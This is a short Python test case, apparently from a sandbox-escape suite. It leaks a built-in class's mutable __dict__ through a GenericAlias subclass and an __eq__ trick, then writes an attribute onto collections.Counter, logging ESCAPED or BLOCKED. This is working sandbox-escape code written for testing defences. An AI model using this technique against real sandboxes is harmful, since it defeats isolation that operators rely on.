# id: attr-alias-subclass-dict
# technique: a subclass of the class of list[int] passes __dict__ on to a class of the library
# layer: python
# goal: host-tamper
# success_marker: ESCAPED

class Alias(type(list[int])):
    pass


class Leak:
    got = None

    def __eq__(self, other):
        Leak.got = other
        return True

    __hash__ = None


def attempt(ctx):
    import collections
    Alias(collections.Counter, (int,)).__dict__ == Leak()
    Leak.got['planted'] = 1
    if hasattr(collections.Counter, 'planted'):
        ctx.log.info('ESCAPED attr-alias-subclass-dict: wrote to collections.Counter')


def tick(ctx):
    try:
        attempt(ctx)
    except Exception as e:
        ctx.log.info('BLOCKED attr-alias-subclass-dict: ' + repr(e)[:160])
    ctx.log.info('DONE attr-alias-subclass-dict')
